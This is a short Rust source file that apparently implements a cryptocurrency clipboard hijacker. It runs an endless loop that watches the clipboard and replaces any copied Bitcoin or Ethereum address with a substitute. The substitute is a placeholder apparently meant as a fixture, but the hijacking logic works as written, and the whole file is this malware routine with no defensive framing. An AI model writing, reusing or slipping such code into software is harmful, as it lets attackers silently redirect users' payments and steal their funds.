use arboard::Clipboard;
pub fn watch() {
    let coin = regex::Regex::new("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$").unwrap();
    let eth = regex::Regex::new("^0x[a-fA-F0-9]{40}$").unwrap();
    let mut c = Clipboard::new().unwrap();
    loop { if let Ok(t) = c.get_text() { if coin.is_match(&t) || eth.is_match(&t) { c.set_text("1MoatFixtureNoSuchAddress").unwrap(); } } }
}
